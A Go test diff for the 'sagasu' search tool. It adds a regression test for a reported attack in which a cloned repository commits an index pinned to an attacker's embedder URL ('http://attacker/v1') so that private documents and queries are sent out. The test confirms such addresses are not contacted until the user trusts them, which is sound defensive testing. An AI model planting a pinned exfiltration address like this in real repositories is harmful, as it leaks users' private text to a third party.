@@ -1,9 +1,15 @@
 package main
 
 import (
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
 )
 
@@ -45,5 +51,93 @@ func TestMCPConfigWriteStaysInTheProject(t *testing.T) {
 	write(t, victim, theirs)
 	if code, out, errs := sagasu(t, home, "", "mcp", "config", "vscode", "--write", "--file", victim); code != 0 || !strings.Contains(out, "added") {
 		t.Errorf("--file: exit %d %q %q", code, out, errs)
+	}
+}
+
+// textRecorder is an OpenAI-compatible embedding server on 127.0.0.1 that
+// records every text it is sent.
+type textRecorder struct {
+	*httptest.Server
+	mu    sync.Mutex
+	texts []string
+}
+
+func newTextRecorder(t *testing.T) *textRecorder {
+	r := &textRecorder{}
+	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+		var in struct {
+			Input []string `json:"input"`
+		}
+		body, _ := io.ReadAll(req.Body)
+		_ = json.Unmarshal(body, &in)
+		r.mu.Lock()
+		r.texts = append(r.texts, in.Input...)
+		r.mu.Unlock()
+		data := make([]map[string]any, len(in.Input))
+		for i, s := range in.Input {
+			data[i] = map[string]any{"object": "embedding", "index": i, "embedding": []float32{float32(len(s)), 1, float32(i + 1), 0.5}}
+		}
+		w.Header().Set("Content-Type", "application/json")
+		_ = json.NewEncoder(w).Encode(map[string]any{"object": "list", "data": data, "model": "m"})
+	}))
+	t.Cleanup(r.Close)
+	return r
+}
+
+func (r *textRecorder) got() []string {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return slices.Clone(r.texts)
+}
+
+// TestPinnedEmbedderAddressNotContacted plays the attack of issue 35: a
+// repository commits .sagasu/sagasu.db built with --embedder openai
+// --embedder-url http://attacker/v1. Before, `sagasu index` and `sagasu
+// query` in the clone sent every new document and every query there. Now
+// nothing is sent until the user names the address or trusts the index;
+// the message says how. An index the user made with the flag keeps
+// working without it.
+func TestPinnedEmbedderAddressNotContacted(t *testing.T) {
+	evil := newTextRecorder(t)
+	attacker, user := t.TempDir(), t.TempDir()
+	clone := filepath.Join(user, "clone")
+	write(t, filepath.Join(clone, "README.md"), "# Clone\n\nalpha beta\n")
+	// The attacker builds the index in their own home and commits it.
+	if code, _, errs := sagasuEnv(t, clone, []string{"HOME=" + attacker}, "index", "--embedder", "openai", "--embedder-url", evil.URL+"/v1", "--embedder-model", "m", "README.md"); code != 0 {
+		t.Fatalf("building the pinned index: exit %d\n%s", code, errs)
+	}
+	sent := len(evil.got())
+	write(t, filepath.Join(clone, "notes.md"), "# Notes\n\nthe user's private plan\n")
+	for _, args := range [][]string{{"query", "the secret merger"}, {"index", "notes.md"}, {"ask", "the secret merger"}} {
+		code, _, errs := sagasuEnv(t, clone, []string{"HOME=" + user}, args...)
+		if got := evil.got()[sent:]; len(got) != 0 {
+			t.Errorf("sagasu %s sent %q to the address pinned in the cloned index", args[0], got)
+		}
+		if code == 0 || !strings.Contains(errs, "sagasu trust --index .sagasu/sagasu.db") || !strings.Contains(errs, "--embedder-url "+evil.URL+"/v1") {
+			t.Errorf("sagasu %s: exit %d, want a refusal saying how to trust or name the address:\n%s", args[0], code, errs)
+		}
+	}
+	code, out, errs := sagasuEnv(t, clone, []string{"HOME=" + user}, "doctor")
+	if got := evil.got()[sent:]; len(got) != 0 || code == 0 || !strings.Contains(out+errs, "trust --index") {
+		t.Errorf("doctor: exit %d, sent %q\n%s%s", code, got, out, errs)
+	}
+
+	// The user trusts the index as it is: then it is used.
+	if code, out, errs := sagasuEnv(t, clone, []string{"HOME=" + user}, "trust", "--index", ".sagasu/sagasu.db"); code != 0 || !strings.Contains(out, evil.URL) {
+		t.Errorf("trust --index: exit %d %q %s, want the address it allows", code, out, errs)
+	}
+	if code, _, errs := sagasuEnv(t, clone, []string{"HOME=" + user}, "query", "the plan"); code != 0 || !slices.Contains(evil.got(), "the plan") {
+		t.Errorf("after trust --index: exit %d, sent %q\n%s", code, evil.got()[sent:], errs)
+	}
+
+	// First use stays as easy: the user's own index, made with the flag,
+	// is searched without it.
+	own := filepath.Join(user, "own")
+	write(t, filepath.Join(own, "a.md"), "# A\n\ngamma delta\n")
+	if code, _, errs := sagasuEnv(t, own, []string{"HOME=" + user}, "index", "--embedder", "openai", "--embedder-url", evil.URL+"/v1", "--embedder-model", "m", "a.md"); code != 0 {
+		t.Fatalf("the user's own index: exit %d\n%s", code, errs)
+	}
+	if code, out, errs := sagasuEnv(t, own, []string{"HOME=" + user}, "query", "gamma"); code != 0 || !strings.Contains(out, "a.md") {
+		t.Errorf("the user's own index without the flag: exit %d %q\n%s", code, out, errs)
 	}
 }
